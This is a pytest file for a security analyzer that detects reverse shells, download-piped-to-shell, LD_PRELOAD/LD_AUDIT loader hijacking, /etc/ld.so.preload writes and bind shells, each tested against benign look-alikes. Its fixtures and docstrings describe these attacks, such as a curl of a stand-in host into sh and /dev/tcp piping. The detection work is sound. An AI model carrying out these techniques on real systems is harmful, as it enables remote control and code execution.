"""Exec-time signals of bus schema 2 (fds 0-2, LD_* variables): each true for the attack and
false for the look-alike benign action (docs/rules.md)."""

from __future__ import annotations

import os
from typing import Any

import pytest

from analyzer.core import Analyzer
from analyzer.evidence import ENV_TRUNCATED
from tests.analyzer.analyzer_sequences import Seq, context_after, decisions, ex, hist, run_events
from policy import parse_policy

TREE = {"tree_id": 7, "shard": 7}
O_WRONLY_CREAT_TRUNC = 0x241


def fd(kind: str, **extra: Any) -> dict[str, Any]:
    return {"type": kind, **extra}


INET = fd("inet", family=2, addr="127.0.0.1", port=4444)
TTY = fd("tty")


def seq(**common: Any) -> Seq:
    return Seq(uid=1000, common={**TREE, **common})


# ---------------------------------------------------------------- reverse_shell

def test_shell_with_a_socket_on_its_stdio_is_a_reverse_shell(core):
    s = seq().exec(1, 201, "/bin/bash", ["bash", "-i"], stdio=[INET, INET, INET])
    assert ex(core, s).reverse_shell
    assert core.sessions[1].marks.evidence.refs["execution.reverse_shell"][0][2] == "exec"


def test_shell_whose_stdout_is_a_pipe_to_less_is_not(core):
    s = seq().exec(1, 201, "/bin/bash", ["bash", "-c", "git log | less"],
                   stdio=[TTY, fd("pipe", ino=9001), TTY], parent_stdio=["tty", "tty", "tty"])
    assert not ex(core, s).reverse_shell


def test_pty_spawn_over_a_socket_is_seen_through_the_parent(core):
    """python3 dups the socket onto its fds 0-2 and pty.spawn()s /bin/sh on a pty."""
    s = seq().exec(1, 201, "/usr/bin/python3", ["python3", "-c", "..."], stdio=[TTY, TTY, TTY])
    s.exec(2, 202, "/bin/sh", ["sh"], parent=201, stdio=[TTY, TTY, TTY],
           parent_stdio=["inet", "inet", "inet"])
    assert ex(core, s).reverse_shell


def test_any_exec_reading_and_writing_a_socket(core):
    s = seq().exec(1, 201, "/tmp/d/payload", ["payload"], stdio=[INET, INET, fd("char")])
    assert ex(core, s).reverse_shell
    upload = seq().exec(1, 201, "/usr/bin/cat", ["cat", "report.txt"], stdio=[TTY, INET, TTY])
    assert not ex(Analyzer(core.policy), upload).reverse_shell


def test_a_routine_exec_with_socket_stdio_counts_too(core):
    s = seq().exec(1, 201, "/usr/bin/id", ["id"], role="routine", stdio=[INET, INET, INET])
    assert ex(core, s).reverse_shell


# ---------------------------------------------------------------- pipe_to_shell

def curl_pipe_sh(reader_first: bool) -> Seq:
    s = seq()
    curl = lambda t: s.exec(t, 201, "/usr/bin/curl", ["curl", "-s", "http://x/i.sh"],  # noqa: E731
                            stdio=[TTY, fd("pipe", ino=77), TTY])
    sh = lambda t: s.exec(t, 202, "/bin/sh", ["sh"], stdio=[fd("pipe", ino=77), TTY, TTY])  # noqa: E731
    if reader_first:
        sh(1), curl(1.001)
    else:
        curl(1), sh(1.001)
    return s


@pytest.mark.parametrize("reader_first", [False, True])
def test_curl_piped_into_sh_in_either_exec_order(core, reader_first):
    assert ex(core, curl_pipe_sh(reader_first)).pipe_to_shell
    refs = core.sessions[1].marks.evidence.refs["execution.pipe_to_shell"]
    assert [r[3] for r in refs] == ["/usr/bin/curl", "/bin/sh"]


def test_a_writer_that_connects_after_its_exec(core):
    """python3 -c "print(urlopen(...).read())" | sh: the writer is known by its connect."""
    s = seq().exec(1, 201, "/bin/sh", ["sh", "-s"], stdio=[fd("pipe", ino=88), TTY, TTY])
    s.exec(1.001, 202, "/usr/bin/python3", ["python3", "-c", "..."], stdio=[TTY, fd("pipe", ino=88), TTY])
    assert not ex(core, s).pipe_to_shell
    s.connect(1.2, 202, "127.0.0.1", 8080)
    assert ex(Analyzer(core.policy), s).pipe_to_shell


def test_a_writer_reading_a_socket(core):
    """cat < /dev/tcp/host/80 | sh: cat's stdin is the socket."""
    s = seq().exec(1, 201, "/usr/bin/cat", ["cat"], stdio=[INET, fd("pipe", ino=5), TTY])
    s.exec(1.001, 202, "/bin/bash", ["bash"], stdio=[fd("pipe", ino=5), TTY, TTY])
    assert ex(core, s).pipe_to_shell


@pytest.mark.parametrize("reader", [["sh", "-c", "echo hi"], ["python3", "-m", "json.tool"],
                                    ["python3", "tool.py"], ["jq", "."]])
def test_downloads_piped_into_something_that_does_not_run_stdin(core, reader):
    s = seq().exec(1, 201, "/usr/bin/curl", ["curl", "x"], stdio=[TTY, fd("pipe", ino=3), TTY])
    s.exec(1.001, 202, "/usr/bin/" + reader[0], reader, stdio=[fd("pipe", ino=3), TTY, TTY])
    assert not ex(core, s).pipe_to_shell


def test_a_local_file_piped_into_sh_is_not_from_the_network(core):
    s = seq().exec(1, 201, "/usr/bin/cat", ["cat", "setup.sh"], stdio=[TTY, fd("pipe", ino=4), TTY])
    s.exec(1.001, 202, "/bin/sh", ["sh"], stdio=[fd("pipe", ino=4), TTY, TTY])
    s.connect(1.2, 203, "127.0.0.1", 8080)             # another process's connect
    assert not ex(core, s).pipe_to_shell


# ---------------------------------------------------------------- loader_hijack

def test_ld_preload_of_a_library_the_tree_built(core):
    s = seq().exec(1, 201, "/usr/bin/gcc", ["gcc", "-shared", "-o", "/tmp/libhook.so"])
    s.open(1.5, 201, "/tmp/libhook.so", O_WRONLY_CREAT_TRUNC)
    s.exec(2, 202, "/usr/bin/ls", ["ls", "/"], ld_env={"LD_PRELOAD": "/tmp/libhook.so"})
    assert ex(core, s).loader_hijack and ex(core, s).preload_injection
    write, exec_ = core.sessions[1].marks.evidence.refs["execution.loader_hijack"]
    assert (write[2], write[3], exec_[3]) == ("open", "/tmp/libhook.so", "/usr/bin/ls")


@pytest.mark.parametrize("ld_env", [{"LD_PRELOAD": "/home/u/lib/x.so"}, {"LD_AUDIT": "./audit.so"},
                                    {"LD_PRELOAD": "libx.so", "LD_LIBRARY_PATH": "/home/u/lib"},
                                    {"LD_PRELOAD": "/usr/lib/../../tmp/x.so"}])
def test_ld_preload_or_audit_outside_the_system_directories(core, ld_env):
    flags = ex(core, seq().exec(1, 202, "/usr/bin/ls", ["ls"], ld_env=ld_env))
    assert flags.loader_hijack and flags.preload_injection


@pytest.mark.parametrize("ld_env", [{"LD_PRELOAD": "/usr/lib/libjemalloc.so.2"},
                                    {"LD_LIBRARY_PATH": "/usr/lib/x86_64-linux-gnu"},
                                    {"LD_LIBRARY_PATH": "/home/u/.local/lib"},
                                    {"LD_PRELOAD": "libjemalloc.so.2", "LD_LIBRARY_PATH": "/usr/lib"}])
def test_system_libraries_and_directories_are_not_hijacks(core, ld_env):
    flags = ex(core, seq().exec(1, 202, "/usr/bin/ls", ["ls"], ld_env=ld_env))
    assert not flags.loader_hijack and not flags.preload_injection


def test_ld_library_path_to_a_directory_the_tree_put_a_library_in(core):
    s = seq().open(1, 201, "/tmp/d/libc.so.6", O_WRONLY_CREAT_TRUNC)
    s.exec(2, 202, "/usr/bin/id", ["id"], role="routine", ld_env={"LD_LIBRARY_PATH": "/tmp/d/"})
    flags = ex(core, s)
    assert flags.loader_hijack and not flags.preload_injection   # a fresh build's library dir too
    other = seq().open(1, 201, "/tmp/d/notes.txt", O_WRONLY_CREAT_TRUNC)
    other.exec(2, 202, "/usr/bin/id", ["id"], ld_env={"LD_LIBRARY_PATH": "/tmp/d"})
    assert not ex(Analyzer(core.policy), other).loader_hijack


@pytest.mark.parametrize("how", ["open", "rename"])
def test_writing_the_system_wide_preload_list_is_preload_injection(core, how):
    """/etc/ld.so.preload: every later program loads the library, no LD_* variable to see."""
    s = seq().open(1, 201, "/var/tmp/.l/libx.so", O_WRONLY_CREAT_TRUNC)
    if how == "open":
        s.open(2, 201, "/etc/ld.so.preload", O_WRONLY_CREAT_TRUNC)
    else:
        s.event("rename", 2, 201, path="/etc/.p.tmp", new_path="/etc/ld.so.preload", syscall="rename", ret=0,
                dirfd=-100, new_dirfd=-100, flags=0)
    s.exec(3, 202, "/bin/true", ["true"])
    flags = ex(core, s)
    assert flags.preload_injection and not flags.loader_hijack
    other = seq().open(1, 201, "/etc/ld.so.conf.d/x.conf", O_WRONLY_CREAT_TRUNC).exec(3, 202, "/bin/true", ["true"])
    assert not ex(Analyzer(core.policy), other).preload_injection


def test_truncated_environment_is_evidence_not_a_hijack():
    rules = (b'{"analysis": {"lineage_max_depth": 6}, "thresholds": {"log": 1, "alert": 9}, "rules": ['
             b'{"name": "hijack", "expr": "execution.loader_hijack", "weight": 5, "enabled": true}]}')
    core = Analyzer(parse_policy(rules))
    s = seq().exec(1, 202, "/usr/bin/env", ["env"], env_truncated=True)
    assert not ex(core, s).loader_hijack
    s.exec(2, 203, "/usr/bin/ls", ["ls"], ld_env={"LD_PRELOAD": "/tmp/x.so"})
    (d,) = decisions(run_events(Analyzer(core.policy), s.events))
    assert d["evidence"][ENV_TRUNCATED] == [{"ts_ns": 10**9, "tgid": 202, "kind": "exec", "path": "/usr/bin/env"}]


# ---------------------------------------------------------------- bind_shell

def test_listen_then_a_shell_on_the_accepted_socket(core):
    s = seq().exec(1, 201, "/usr/bin/python3", ["python3", "/srv/app/server.py"])
    s.event("listen", 1.1, 201, syscall="listen", ret=0, family=2, addr="0.0.0.0", port=5555, backlog=1)
    s.exec(3, 202, "/bin/sh", ["sh", "-i"], parent=201, stdio=[INET, INET, INET])
    h = hist(core, s)
    assert h.bind_shell and not h.raw_socket
    listen, shell = core.sessions[1].marks.evidence.refs["history.bind_shell"]
    assert (listen[2], listen[3], shell[3]) == ("listen", "0.0.0.0:5555", "/bin/sh")


def test_a_dev_server_on_all_interfaces_with_no_shell_is_not(core):
    s = seq().exec(1, 201, "/usr/bin/python3", ["python3", "-m", "http.server", "8000"])
    s.event("bind", 1.05, 201, syscall="bind", ret=0, family=2, addr="0.0.0.0", port=8000)
    s.event("listen", 1.1, 201, syscall="listen", ret=0, family=2, addr="0.0.0.0", port=8000, backlog=5)
    s.exec(2, 202, "/usr/bin/curl", ["curl", "http://127.0.0.1:8000/"], stdio=[TTY, fd("pipe", ino=1), TTY])
    assert not hist(core, s).bind_shell


def test_loopback_listen_then_a_socket_shell_is_a_reverse_shell_not_a_bind_shell(core):
    s = seq().exec(1, 201, "/usr/bin/node", ["node", "server.js"])
    s.event("listen", 1.1, 201, syscall="listen", ret=0, family=2, addr="127.0.0.1", port=3000, backlog=511)
    s.exec(2, 202, "/bin/sh", ["sh"], stdio=[INET, INET, INET])
    ctx = context_after(core, s)
    assert ctx.execution.reverse_shell and not ctx.history.bind_shell


@pytest.mark.parametrize("argv, expected", [(["zsh", "-c", "ztcp -l 4444"], True),
                                            (["python3", "-c", "..."], True), (["python3", "-"], True),
                                            (["python3", "/srv/app.py"], False),
                                            (["python3", "-m", "http.server"], False)])
def test_a_shell_or_inline_interpreter_listening_itself(core, argv, expected):
    s = seq().exec(1, 201, "/usr/bin/" + argv[0], argv)
    s.event("listen", 1.1, 201, syscall="listen", ret=0, family=10, addr="::", port=4444, backlog=1)
    assert hist(core, s).bind_shell is expected


def test_a_failed_listen_is_nothing(core):
    s = seq().exec(1, 201, "/bin/zsh", ["zsh"])
    s.event("listen", 1.1, 201, syscall="listen", ret=-98, family=2, addr="0.0.0.0", port=22, backlog=1)
    assert not hist(core, s).bind_shell


def test_a_script_of_any_name_run_by_a_shell_is_a_shell(core):
    """``#!/bin/sh`` scripts exec with /bin/sh's identity: a socket on one of their fds is a
    reverse shell whatever the script is called; an ELF of that name is not."""
    st = os.stat("/bin/sh")
    s = seq().exec(1, 201, "/tmp/d/update", ["update"], stdio=[INET, TTY, TTY], ino=st.st_ino, dev=st.st_dev)
    assert ex(core, s).reverse_shell
    elf = seq().exec(1, 201, "/tmp/d/update", ["update"], stdio=[INET, TTY, TTY], ino=1, dev=1)
    assert not ex(Analyzer(core.policy), elf).reverse_shell
